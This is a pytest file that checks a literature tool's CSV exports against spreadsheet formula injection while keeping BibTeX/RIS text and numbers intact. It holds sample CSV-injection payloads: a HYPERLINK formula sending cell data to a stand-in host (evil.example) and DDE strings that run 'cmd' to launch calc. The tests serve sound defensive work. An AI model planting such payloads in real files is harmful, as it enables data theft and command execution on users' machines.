"""Issue 8, item 7: CSV formula injection.

A title starting with '=', '+', '-' or '@' (or a tab / carriage return, per OWASP) must not reach
a CSV that litscope writes as a live spreadsheet formula. Every CSV writer goes through
litscope.csvsafe; the BibTeX and RIS exports keep the text exactly; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

import litscope
from litscope import report
from litscope.export import write_bibtex, write_csv, write_ris
from litscope.schema import to_frame

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1 (full-width equals)",
]


def _rows(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _is_live(cell: str) -> bool:
    return bool(cell) and cell[0] in "=+-@\t\r＝＋－＠"


@pytest.fixture
def evil() -> pd.DataFrame:
    recs = [{"title": t, "authors": ["-Doe, Jane"], "year": 2020 + i, "abstract": "@mention in text",
             "keywords": ["=kw", "ok"], "venue": "+Venue"} for i, t in enumerate(FORMULAS)]
    recs.append({"title": "A plain title", "authors": ["Roe, R"], "year": 2019})
    return to_frame(recs, source_format="ris", source_file="evil.ris")


def _topic_frames(df):
    ids = df["id"].tolist()
    papers = pd.DataFrame({"id": ids, "topic": [0] * (len(ids) - 1) + [-1],
                           "topic_label": ["=label"] * (len(ids) - 1) + [""],
                           "confidence": [0.5] * (len(ids) - 1) + [-0.25]})
    topics = pd.DataFrame({"topic": [0, -1], "label": ["=HYPERLINK(1)", "-unassigned"], "size": [5, 1],
                           "share": [0.8, -0.2], "key_phrases": [["@phrase", "x"], ["y"]]})
    return papers, topics


def test_papers_csv_neutralises_formula_cells(evil, tmp_path):
    papers, _ = _topic_frames(evil)
    summaries = {i: "=1+2 summary" for i in evil["id"]}
    path = report.write_papers_csv(tmp_path, evil, papers, summaries, report.compute_references(evil))
    rows = _rows(path)
    assert len(rows) == len(evil)
    for row in rows:
        for col, cell in row.items():
            if col in ("topic", "confidence"):
                continue
            assert not _is_live(cell), (col, cell)
    titles = {r["title"] for r in rows}
    assert "'" + FORMULAS[0] in titles and "A plain title" in titles
    # numbers are numbers: the unassigned topic is -1 and a negative score stays negative
    plain = next(r for r in rows if r["title"] == "A plain title")
    assert plain["topic"] == "-1" and plain["confidence"] == "-0.25"
    assert {r["summary"] for r in rows} == {"'=1+2 summary"}


def test_topics_csv_neutralises_formula_cells_keeps_numbers(evil, tmp_path):
    _, topics = _topic_frames(evil)
    rows = _rows(report.write_topics_csv(tmp_path, topics))
    assert [r["label"] for r in rows] == ["'=HYPERLINK(1)", "'-unassigned"]
    assert [r["topic"] for r in rows] == ["0", "-1"] and rows[1]["share"] == "-0.2"
    assert rows[0]["key_phrases"] == "'@phrase, x"


def test_corpus_and_duplicates_csv_neutralise_formula_cells(evil, tmp_path):
    dup = to_frame([{"title": FORMULAS[0], "authors": ["-Doe, Jane"], "year": 2020, "doi": "10.1000/x"},
                    {"title": FORMULAS[0], "authors": ["-Doe, Jane"], "year": 2020, "doi": "10.1000/X"}],
                   source_format="ris", source_file="dup.ris")
    merged = report.merge_duplicates(pd.concat([evil, dup], ignore_index=True))
    written = report.write_corpus_exports(tmp_path, merged)
    for key in ("csv", "duplicates"):
        rows = _rows(written[key])
        assert rows, key
        for row in rows:
            for col, cell in row.items():
                assert not _is_live(cell), (key, col, cell)
    corpus = _rows(written["csv"])
    assert {"'" + t for t in FORMULAS} <= {r["title"] for r in corpus}
    assert all(r["authors"] in ("'-Doe, Jane", "Roe, R") for r in corpus)


def test_write_csv_to_buffer_neutralises_every_text_cell(evil):
    buf = io.StringIO()
    write_csv(evil, buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert [r["title"] for r in rows[:len(FORMULAS)]] == ["'" + t for t in FORMULAS]
    assert rows[0]["keywords"] == "'=kw; ok" and rows[0]["venue"] == "'+Venue"
    assert rows[0]["abstract"] == "'@mention in text" and rows[0]["year"] == "2020"


def test_bibtex_and_ris_keep_formula_text_exact(evil):
    bib, ris = io.StringIO(), io.StringIO()
    write_bibtex(evil, bib)
    write_ris(evil, ris)
    assert "TI  - " + FORMULAS[1] + "\n" in ris.getvalue()
    assert "'" + FORMULAS[1] not in ris.getvalue()
    assert "title = {" + FORMULAS[3] + "}" in bib.getvalue()
    assert "'@" not in bib.getvalue() and "'=" not in bib.getvalue()


def test_corpus_csv_reads_back_with_the_exact_titles(evil, tmp_path):
    path = tmp_path / "corpus.csv"
    write_csv(evil, path)
    back_corpus = litscope.load(path)
    back = back_corpus.papers
    assert back["title"].tolist() == evil["title"].tolist()
    assert back["authors"].tolist() == evil["authors"].tolist()
    assert back["keywords"].tolist() == evil["keywords"].tolist()


@pytest.mark.parametrize("cell,expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@x", "'@x"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-1", "-1"), ("-0.25", "-0.25"), ("+3", "+3"),
    ("-1e5", "-1e5"), ("plain", "plain"), ("", ""), ("a=b", "a=b"),
])
def test_escape_cell_owasp_rules(cell, expected):
    from litscope.csvsafe import escape_cell, unescape_cell

    assert escape_cell(cell) == expected
    assert unescape_cell(escape_cell(cell)) == cell
    assert escape_cell(-1) == -1 and escape_cell(-0.5) == -0.5
